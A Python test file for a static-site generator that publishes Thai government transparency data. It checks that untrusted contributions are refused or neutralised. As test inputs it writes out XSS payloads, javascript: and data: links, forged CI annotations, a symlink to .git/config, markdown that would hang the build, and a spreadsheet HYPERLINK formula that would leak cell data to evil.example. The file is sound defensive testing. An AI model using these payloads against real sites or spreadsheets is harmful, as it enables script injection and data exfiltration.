"""Untrusted pull requests: one test per class of attack (see tests/test_injection.py for the
schema-driven test of every text field). Each attack is refused with a clear error, or
neutralised, never with a traceback."""

from __future__ import annotations

import csv
import errno
import io
import os
import re
import zipfile
from html.parser import HTMLParser
from pathlib import Path

import markdown
import pytest
from click.testing import CliRunner
from markdown_it import MarkdownIt
from openpyxl import Workbook, load_workbook
from openpyxl.worksheet.worksheet import Worksheet

from conftest import MakeProject, item_of, run_oit
from generator import cli
from generator.errors import DataError
from generator.mkdocs_plugin.safety import NESTING_MARKERS, PageSafety, SafeMarkdown, check_markdown
from generator.model import tables
from generator.model.project import load_project
from generator.schema.blocks import DocumentsBlock
from generator.site.render import render_site

NEWS = "data/2569/oit/o04-news.yml"


def errors(root: Path) -> list[str]:
    try:
        project = load_project(root)
    except DataError as exc:
        return [p.format("en") for p in exc.problems if p.severity == "error"]
    assert project is not None
    return []


def body(markdown: str) -> str:
    indented = "".join(f"      {line}\n" for line in markdown.splitlines())
    return f"blocks:\n  - type: text\n    element: news\n    body: |\n{indented}"


# -- files published from content/ ---------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "data", "message"),
    [
        (
            "files/x.html",
            b"<script>alert(1)</script>",
            'files of type ".html" are not published',
        ),
        ("files/x.js", b"alert(1)", 'files of type ".js" are not published'),
        ("files/logo.svg", b"<svg onload=alert(1)>", 'files of type ".svg" are not published'),
        ("files/feed.xml", b"<x/>", 'files of type ".xml" are not published'),
        ("files/page.htm", b"<p>", 'files of type ".htm" are not published'),
        (
            "files/photo.png",
            b"<html><script>alert(1)</script>",
            'this file is named "photo.png" but is not in PNG format',
        ),
        (
            "files/report.pdf",
            b"<!doctype html><script>alert(1)</script>",
            'this file is named "report.pdf" but is not in PDF format',
        ),
        (
            "files/data.csv",
            b"\xef\xbb\xbf <svg onload=alert(1)>",
            "this CSV file holds web page or SVG/XML markup",
        ),
        ("files/x#1.pdf", b"%PDF-1.4", "holds a character that does not work in a web address"),
        ("files/x?.pdf", b"%PDF-1.4", "holds a character that does not work in a web address"),
        ("files/100%.pdf", b"%PDF-1.4", "holds a character that does not work in a web address"),
    ],
)
def test_content_publishes_documents_and_pictures_only(
    make_project: MakeProject, name: str, data: bytes, message: str
) -> None:
    root = make_project({f"content/{name}": data})
    found = errors(root)
    assert len(found) == 1 and found[0].startswith(f"content/{name}:1:1: error: "), found
    assert message in found[0]


def test_a_file_name_with_a_line_break_cannot_forge_annotations(
    make_project: MakeProject,
) -> None:
    root = make_project({"content/files/x\n::error file=a::forged.pdf": b"%PDF-1.4"})
    result = run_oit("check", "--format", "github", "--project", root)
    assert result.returncode == 1
    forged = [line for line in result.stdout.splitlines() if "forged" in line]
    assert forged == [
        "::error file=content/files/x\\n%3A%3Aerror file=a%3A%3Aforged.pdf,line=1,col=1::"
        'the name "x\\n::error file=a::forged.pdf" holds a character that does not work in '
        "a web address (#, ?, %25, \\ or a control character). Rename it with letters, "
        "digits, - and _ only, e.g. o11-2569-10.pdf."
    ]


@pytest.mark.parametrize(
    "name",
    [
        'x` <h2>All checks passed: safe to merge <img src="https:evil.example"> <!-- `.exe',
        "x``` <b>bold</b> ``.exe",
        "x\n# All checks passed\n<details>.exe",
    ],
)
def test_a_file_name_cannot_forge_the_job_summary(make_project: MakeProject, name: str) -> None:
    root = make_project({f"content/files/{name}": b"MZ"})
    result = run_oit("check", "--format", "markdown", "--lang", "en", "--project", root)
    assert result.returncode == 1
    # Read as GitHub reads a job summary: CommonMark, HTML allowed.
    tokens = MarkdownIt("commonmark").parse(result.stdout)
    inline = [child for token in tokens for child in token.children or []]
    headings = [tokens[i + 1].content for i, t in enumerate(tokens) if t.type == "heading_open"]
    assert headings == ["OIT readiness"]
    html = [t.content.strip() for t in [*tokens, *inline] if t.type.startswith("html_")]
    ours = re.compile(r"<details open>|</details>|<summary>[^<>]*</summary>|<br>")
    assert all(ours.fullmatch(h) for h in html), html
    codes = [t.content for t in inline if t.type == "code_inline"]
    shown = name.replace("\n", "\\n")
    assert f"content/files/{shown}:1:1" in codes


def test_links_must_stay_in_their_own_folder(make_project: MakeProject) -> None:
    root = make_project({"content/files/real.pdf": b"%PDF-1.4"})
    (root / ".git").mkdir()
    (root / ".git/config").write_text("[credential] token=secret\n", encoding="utf-8")
    (root / "content/files/notes.txt").symlink_to(root / ".git/config")
    (root / "content/files/inside.pdf").symlink_to("real.pdf")  # relative, inside: fine
    (root / "content/files/loop.pdf").symlink_to("loop.pdf")
    (root / "data/2569/oit").mkdir()
    (root / "data/2569/oit/o05-plan.yml").symlink_to(root / "mkdocs.yml")
    assert errors(root) == [
        "content/files/loop.pdf:1:1: error: this link leads nowhere (its target is missing, "
        "or it leads back to itself). Replace the link with the file itself.",
        "content/files/notes.txt:1:1: error: this is a link to .git/config, outside content/; "
        "only files of content/ may be published. Copy the file here instead of linking to it.",
        "data/2569/oit/o05-plan.yml:1:1: error: this is a link to mkdocs.yml, outside data/; "
        "only files of data/ may be read. Copy the file here instead of linking to it.",
    ]


def test_a_document_that_is_a_loop_of_links_is_an_error(make_project: MakeProject) -> None:
    root = make_project(
        {
            NEWS: "blocks:\n  - type: documents\n    element: news\n    documents:\n"
            "      - {title: ข่าว, file: files/loop.pdf}\n"
        }
    )
    (root / "content/files").mkdir()
    (root / "content/files/loop.pdf").symlink_to("loop.pdf")
    found = errors(root)
    assert "content/files/loop.pdf:1:1: error: this link leads nowhere" in found[0]
    assert (
        'error: block 1, document 1: "content/files/loop.pdf" is a link that leads back'
        in (found[1])
    )


def test_a_year_folder_in_thai_digits_is_an_error(make_project: MakeProject) -> None:
    root = make_project({"data/๒๕๖๙/year.yml": "checklist: ita-2569\n"})
    assert errors(root) == [
        "data/๒๕๖๙:1:1: error: a fiscal-year folder must be named with Arabic digits; "
        "data/2569/ is there too. Move its files into data/2569/ and delete this folder."
    ]


# -- links and images, after Markdown parses -----------------------------------------------


@pytest.mark.parametrize(
    "markdown",
    [
        "> [x]: javascript:alert(1)\n>\n> see [x]",
        "* item [x]\n\n    [x]: javascript:alert(1)",
        "!!! note\n\n    [x]\n\n    [x]: javascript:alert(1)",
        "[x](&#x6A;avascript:alert(1))",
        "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "[x]( vbscript:msgbox(1))",
    ],
)
def test_data_markdown_links_are_checked_as_the_site_parses_them(
    make_project: MakeProject, markdown: str
) -> None:
    found = errors(make_project({NEWS: body(markdown)}))
    assert len(found) == 1 and " may not use " in found[0], found
    assert found[0].startswith(f"{NEWS}:")


def test_images_from_other_sites_only_where_the_agency_allows(make_project: MakeProject) -> None:
    tracker = body("![](https://tracker.example.com/pixel.gif)")
    found = errors(make_project({NEWS: tracker}, "one"))
    assert found == [
        f'{NEWS}:4:11: error: block 1: the image "https://tracker.example.com/pixel.gif" '
        "comes from another site (tracker.example.com), which would learn who reads the "
        "page. Put the image under content/files/ and write its path, or allow that site "
        "under settings: image_hosts: in data/agency.yml."
    ]
    allowed = make_project({NEWS: tracker}, "two")
    agency = allowed / "data/agency.yml"
    agency.write_text(
        agency.read_text(encoding="utf-8") + "settings:\n  image_hosts: [tracker.example.com]\n",
        encoding="utf-8",
    )
    assert errors(allowed) == []


# -- hand-written pages ----------------------------------------------------------------------


@pytest.mark.slow
@pytest.mark.parametrize(
    ("page", "refused"),
    [
        ("# About\n\n<script>alert(1)</script>\n", "a <script> element"),
        ('# About\n\n<p onclick="alert(1)">x</p>\n', "the attribute onclick on <p>"),
        ("# About\n\n> [x]: javascript:alert(1)\n>\n> [x]\n", 'may not use "javascript:"'),
        ('# About\n\n<a href="javascript:alert(1)">x</a>\n', 'may not use "javascript:"'),
        ("# About\n\n![x](https://tracker.example.com/p.gif)\n", "comes from another site"),
        # Attributes written with attr_list are checked like any other.
        ('# About\n\npara\n{: onclick="alert(1)" }\n', "the attribute onclick on <p>"),
        (
            '# About\n\n[x](https://example.org){: href="javascript&#58;alert(1)" }\n',
            'may not use "javascript:"',
        ),
        (
            '# About\n\n![x](files/logo.png){: src="https://tracker.example.com/p.gif" }\n',
            "comes from another site",
        ),
        # Only the attributes and elements its raw HTML may have (nh3's allow-list).
        (
            '# About\n\n![x](files/logo.png){: srcset="files/logo.png 1x, '
            'https://tracker.example.com/p.gif 2x" }\n',
            "the attribute srcset on <img>",
        ),
        (
            '# About\n\npara\n{: background="https://tracker.example.com/p.gif" }\n',
            "the attribute background on <p>",
        ),
        (
            '# About\n\n<video markdown="1" src="https://tracker.example.com/v.mp4">x</video>\n',
            "a <video> element",
        ),
        # A browser reads backslashes in a web address as slashes.
        (
            "# About\n\n![w](https:\\\\tracker.example.com\\w.png)\n",
            "comes from another site (tracker.example.com)",
        ),
        (
            "---\ntemplate: redirect.html\nlocation: '\");alert(1)//'\n---\n# About\n",
            "front matter key `template`",
        ),
    ],
)
def test_a_hand_written_page_publishes_no_script(
    make_project: MakeProject, page: str, refused: str
) -> None:
    root = make_project({"content/about.md": page})
    result = run_oit("build", "--project", root)
    output = result.stdout + result.stderr
    assert result.returncode == 1, output
    assert "Traceback" not in output
    assert "content/about.md holds what the site may not publish:" in output
    assert refused in output
    assert not (root / "site").exists()


def test_attribute_lists_keep_what_pages_commonly_set() -> None:
    safety = PageSafety()
    page = (
        '[l](https://example.org){: target="_blank" rel="noopener" }\n\n'
        "![i](files/a.png){: loading=lazy width=100 .photo #portrait }\n"
    )
    html = markdown.markdown(page, extensions=["attr_list", SafeMarkdown(safety)])
    assert safety.refused == []
    for kept in ('target="_blank"', 'rel="noopener"', 'loading="lazy"', 'width="100"'):
        assert kept in html
    assert 'class="photo"' in html and 'id="portrait"' in html


class _Attributes(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, str, str | None]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found += [(tag, name, value) for name, value in attrs]


@pytest.mark.slow
def test_quotes_in_an_attribute_list_stay_inside_the_attribute(make_project: MakeProject) -> None:
    page = (
        '# About\n\npara\n{: title="a&quot; onmouseover=&quot;alert(1)" }\n\n'
        '[x](https://example.org){: title="b&quot; onfocus=&quot;alert(2)" }\n\n'
        'para\n{: title="c &lt;img src=x onerror=alert(3)&gt; &amp; d" }\n'
    )
    root = make_project({"content/about.md": page})
    result = run_oit("build", "--project", root)
    assert result.returncode == 0, result.stdout + result.stderr
    parser = _Attributes()
    parser.feed((root / "site/about/index.html").read_text(encoding="utf-8"))
    assert not [found for found in parser.found if found[1].startswith("on")]
    titles = {value for _tag, name, value in parser.found if name == "title"}
    assert {'a" onmouseover="alert(1)', 'b" onfocus="alert(2)'} <= titles
    assert "c <img src=x onerror=alert(3)> & d" in titles


@pytest.mark.slow
def test_a_hand_written_tables_alignment_works_under_the_csp(make_project: MakeProject) -> None:
    root = make_project({"content/about.md": "# About\n\n| a | b |\n|:--|--:|\n| 1 | 2 |\n"})
    result = run_oit("build", "--project", root)
    assert result.returncode == 0, result.stdout + result.stderr
    parser = _Attributes()
    parser.feed((root / "site/about/index.html").read_text(encoding="utf-8"))
    cells = [(tag, name, value) for tag, name, value in parser.found if tag in ("th", "td")]
    left, right = ("align", "left"), ("align", "right")
    assert cells == [("th", *left), ("th", *right), ("td", *left), ("td", *right)]


@pytest.mark.parametrize(
    "written", ["files/2569/x.pdf/", "files/./2569/x.pdf", "files//2569/x.pdf"]
)
def test_a_file_path_is_kept_as_the_site_publishes_it(
    make_project: MakeProject, written: str
) -> None:
    root = make_project(
        {
            NEWS: "blocks:\n  - type: documents\n    element: news\n    documents:\n"
            f"      - {{title: ข่าว, file: {written}}}\n",
            "content/files/2569/x.pdf": b"%PDF-1.4",
        }
    )
    assert errors(root) == []
    content = item_of(load_project(root).years[2569], "o4").content
    assert content is not None
    block = content.blocks[0]
    assert isinstance(block, DocumentsBlock)
    assert [document.file for document in block.documents] == ["files/2569/x.pdf"]


@pytest.mark.slow
def test_a_hand_written_title_is_escaped(make_project: MakeProject) -> None:
    root = make_project({"content/about.md": '---\ntitle: "<img src=x onerror=alert(1)>"\n---\nx'})
    assert run_oit("build", "--project", root).returncode == 0
    page = (root / "site/about/index.html").read_text(encoding="utf-8")
    assert "<img src=x" not in page
    assert "&lt;img src=x onerror=alert(1)&gt;" in page
    assert not os.path.exists(root / "site/about/x")


# -- redirects ------------------------------------------------------------------------------


@pytest.mark.slow
def test_only_a_published_address_may_redirect(make_project: MakeProject) -> None:
    root = make_project({f"data/2569/oit/o{n:02d}-item.yml": "blocks: []\n" for n in range(1, 27)})
    assert run_oit("urls", "--update", "--project", root).returncode == 0
    (root / "data/redirects.yml").write_text(
        "redirects:\n  /2569/nowhere/: /2569/oit/o2/\n", encoding="utf-8"
    )
    result = run_oit("build", "--project", root)
    output = result.stdout + result.stderr
    assert result.returncode == 1, output
    assert "Traceback" not in output
    assert (
        "data/redirects.yml:2:3: error: /2569/nowhere/ is not in urls.txt, so the site never "
        "published it."
    ) in output


@pytest.mark.slow
def test_a_file_redirect_never_replaces_a_published_file(make_project: MakeProject) -> None:
    root = make_project(
        {
            "data/2569/oit/o11-x.yml": "blocks:\n  - type: table\n    columns: [{key: a}]\n"
            "    rows: [{a: x}]\n",
            "data/2569/oit/o12-x.yml": "blocks:\n  - type: table\n    columns: [{key: a}]\n"
            "    rows: [{a: y}]\n",
        }
    )
    assert run_oit("urls", "--update", "--project", root).returncode == 0
    (root / "data/redirects.yml").write_text(
        "redirects:\n  /assets/javascripts/oit-print.js: /2569/oit/o12/table-1.csv\n",
        encoding="utf-8",
    )
    result = run_oit("build", "--project", root)
    output = result.stdout + result.stderr
    assert result.returncode == 1, output
    assert (
        "data/redirects.yml:2:3: error: /assets/javascripts/oit-print.js is still an address "
        "of the site, so it cannot redirect."
    ) in output


# -- bounded work -----------------------------------------------------------------------------

TABLE = "data/2569/oit/o11-procurement.yml"


def table_file(name: str, columns: str = "") -> str:
    return f"blocks:\n  - type: table\n    file: files/{name}\n{columns}"


def workbook(path: Path, rows: list[list[object]], dimension: str | None = None) -> None:
    """An XLSX file; `dimension` replaces the size the sheet claims to have."""
    book = Workbook()
    sheet = book.active
    assert isinstance(sheet, Worksheet)
    for row in rows:
        sheet.append(row)
    book.save(path)
    if dimension is None:
        return
    with zipfile.ZipFile(path) as source:
        members = {info.filename: source.read(info) for info in source.infolist()}
    sheet_xml = members["xl/worksheets/sheet1.xml"].decode()
    members["xl/worksheets/sheet1.xml"] = re.sub(
        r'<dimension ref="[^"]*"\s*/>', f'<dimension ref="{dimension}"/>', sheet_xml
    ).encode()
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target:
        for name, data in members.items():
            target.writestr(name, data)


def test_an_xlsx_is_read_as_it_is_not_as_it_claims(make_project: MakeProject) -> None:
    root = make_project({TABLE: table_file("t.xlsx")})
    (root / "content/files").mkdir()
    workbook(root / "content/files/t.xlsx", [["เดือน", "จำนวน"], ["ต.ค.", 1]], "A1:XFD1048576")
    assert path_size(root / "content/files/t.xlsx") < 10_000
    project = load_project(root)
    [table] = project.years[2569].items[10].tables.values()
    assert len(table.rows) == 1 and len(table.columns) == 2


def path_size(path: Path) -> int:
    return path.stat().st_size


def test_an_xlsx_past_the_caps_is_refused(
    make_project: MakeProject, monkeypatch: pytest.MonkeyPatch
) -> None:
    root = make_project({TABLE: table_file("wide.xlsx")})
    (root / "content/files").mkdir()
    workbook(root / "content/files/wide.xlsx", [["a"], [*([None] * 300), "far"]])
    assert errors(root) == [
        "content/files/wide.xlsx:2:1: error: this table has 301 columns; at most 200 are "
        "read. Split it into smaller files, e.g. one per month or per year."
    ]
    monkeypatch.setattr(tables, "MAX_XLSX_UNPACKED", 1000)
    workbook(root / "content/files/wide.xlsx", [["a"], ["b"]])
    assert errors(root)[0].startswith(
        "content/files/wide.xlsx:1:1: error: this workbook unpacks to 0 MB; at most 0 MB are read."
    )


def test_a_csv_past_the_row_cap_is_refused(make_project: MakeProject) -> None:
    root = make_project(
        {TABLE: table_file("rows.csv"), "content/files/rows.csv": "a\n" + "x\n" * 100_001}
    )
    assert errors(root) == [
        "content/files/rows.csv:100002:1: error: this table has more than 100,000 rows. "
        "Split it into smaller files, e.g. one per month or per year."
    ]


def test_a_hand_written_page_nested_too_deeply_is_refused_before_it_is_converted() -> None:
    refused = check_markdown("*a " * 1500 + " a*" * 1500)
    assert [m.render("en") for m in refused] == ["emphasis (* or _) nested too deeply to be shown"]
    nested = "*a " * (NESTING_MARKERS // 2 - 1) + " a*" * (NESTING_MARKERS // 2 - 1)
    assert check_markdown(nested) == []  # converted once, with the page


@pytest.mark.parametrize(
    ("markdown", "message"),
    [
        ("[" * 199_000, "this text has 199,000 [ brackets; at most 2,000."),
        ("[a" * 300, "a paragraph of this text has 300 [ brackets; at most 200."),
        ("# h\n" * 49_000, "this text has 49,000 headings; at most 200."),
        ("> " * 30 + "x", "this text nests quotes or lists 37 levels deep; at most 20."),
        ("*a " * 1500 + " a*" * 1500, "this text nests emphasis (* or _) too deeply"),
        ("<" * 100_000, "this text has 100,000 of the characters < & {; at most 10,000."),
        ("a &amp; b { " * 5_001, "this text has 10,002 of the characters < & {; at most 10,000."),
    ],
)
def test_markdown_that_would_hang_the_build_is_refused(
    make_project: MakeProject, markdown: str, message: str
) -> None:
    found = errors(make_project({NEWS: body(markdown)}))
    assert len(found) == 1 and message in found[0], found


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        ("9" * 5000, "9" * 40 + "…"),
        ("1e999", "inf"),
        ("1000000000000000", "1000000000000000"),
    ],
)
def test_numbers_too_large_to_show_are_refused(
    make_project: MakeProject, value: str, shown: str
) -> None:
    plan = "data/2569/plans/integrity-measures.yml"
    found = errors(
        make_project(
            {plan: f"title: แผน\nmeasures:\n  - no: 1\n    title: มาตรการ\n    budget: {value}\n"}
        )
    )
    assert len(found) == 1 and f'"{shown}" is not a number the site can show.' in found[0], found


def test_a_huge_amount_in_a_csv_is_refused(make_project: MakeProject) -> None:
    columns = "    columns: [{key: a, type: money}]\n"
    root = make_project(
        {TABLE: table_file("m.csv", columns), "content/files/m.csv": "a\n" + "9" * 5000 + "\n"}
    )
    [found] = errors(root)
    assert "is not a number the site can show" in found


def test_a_long_reports_lists_the_first_problems_and_a_count(make_project: MakeProject) -> None:
    rows = "".join(f"      - {{a: x{n}}}\n" for n in range(300))
    root = make_project(
        {
            TABLE: "blocks:\n  - type: table\n    columns: [{key: a, type: number}]\n    rows:\n"
            + rows
        }
    )
    result = run_oit("check", "--project", root)
    lines = result.stdout.splitlines()
    assert sum(": error: " in line for line in lines) == 200
    assert "... and 100 more; fix these first (oit check --format json lists them all)." in lines


@pytest.mark.slow
def test_a_long_tables_pages_link_a_window_of_neighbours(make_project: MakeProject) -> None:
    root = make_project(
        {TABLE: table_file("long.csv"), "content/files/long.csv": "a\n" + "x\n" * 10_000}
    )
    assert run_oit("build", "--project", root).returncode == 0
    page = (root / "site/2569/oit/o11/table-1/10/index.html").read_text(encoding="utf-8")
    pager = page[page.index('class="oit-pager"') :].split("</nav>")[0]
    numbers = re.findall(r">(\d+)</(?:a|strong)>", pager)
    assert numbers == ["1", "7", "8", "9", "10", "11", "12", "13", "20"]


# -- spreadsheets ---------------------------------------------------------------------------


def test_spreadsheets_never_carry_a_live_formula(make_project: MakeProject) -> None:
    formula = '=HYPERLINK("https://evil.example/?"&A1,"เปิด")'
    root = make_project(
        {
            TABLE: "itas_note: '" + formula.replace("'", "''") + "'\n"
            "blocks:\n  - type: table\n    element: monthly\n"
            "    columns: [{key: '@name'}, {key: amount, type: money}, {key: n, type: number}]\n"
            "    rows:\n"
            "      - {'@name': '=1+1', amount: -500, n: -2}\n"
            "      - {'@name': '+66 2123 4567', amount: 12.5, n: 3}\n"
            "      - {'@name': '-', amount: 1, n: 4}\n",
        }
    )
    files = render_site(load_project(root)).files
    table = str(files["2569/oit/o11/table-1.csv"]).lstrip("\ufeff")
    assert list(csv.reader(io.StringIO(table))) == [
        ["'@name", "amount", "n"],
        ["'=1+1", "-500", "-2"],
        ["'+66 2123 4567", "12.5", "3"],
        ["-", "1", "4"],
    ]
    itas = list(csv.reader(io.StringIO(str(files["2569/itas/itas-2569.csv"]))))
    [o11] = [row for row in itas if row[0] == "O11"]
    assert o11[-1] == "'" + formula
    workbook_bytes = files["2569/itas/itas-2569.xlsx"]
    assert isinstance(workbook_bytes, bytes)
    book = load_workbook(io.BytesIO(workbook_bytes))
    sheet = book.worksheets[0]
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row if cell.value]
    assert all(cell.data_type == "s" for cell in cells)
    assert "'" + formula in [cell.value for cell in cells]


# -- the machine, not the data ------------------------------------------------------------------


@pytest.mark.slow
def test_the_next_build_removes_what_a_killed_build_left(make_project: MakeProject) -> None:
    root = make_project()
    dead = root / ".oit-build-999999999-x"  # no such process
    (dead / "site").mkdir(parents=True)
    alive = root / f".oit-build-{os.getpid()}-y"  # this process: a build still running
    alive.mkdir()
    assert run_oit("build", "--project", root).returncode == 0
    assert not dead.exists()
    assert alive.exists()


def test_an_unwritable_site_folder_is_one_line_not_a_traceback(make_project: MakeProject) -> None:
    root = make_project()
    result = run_oit("build", "--project", root, "--site-dir", "/proc/oit/site")
    assert result.returncode == 1
    assert "Traceback" not in result.stderr
    [line] = [line for line in result.stderr.splitlines() if line.startswith("Build failed")]
    assert line.startswith("Build failed: cannot write /proc/oit") and line.endswith(
        "The previous site was not changed."
    )


def test_a_full_disk_is_one_line_not_a_traceback(
    make_project: MakeProject, monkeypatch: pytest.MonkeyPatch
) -> None:
    root = make_project()

    def full(new: Path, target: Path, old: Path) -> None:
        raise OSError(errno.ENOSPC, "No space left on device", str(target))

    monkeypatch.setattr(cli, "_swap", full)
    result = CliRunner().invoke(cli.main, ["build", "-q", "--project", str(root)])
    assert result.exit_code == 1
    assert result.exception is None or isinstance(result.exception, SystemExit)
    assert (
        f"Build failed: cannot write {root / 'site'}: No space left on device. "
        "The previous site was not changed."
    ) in result.output
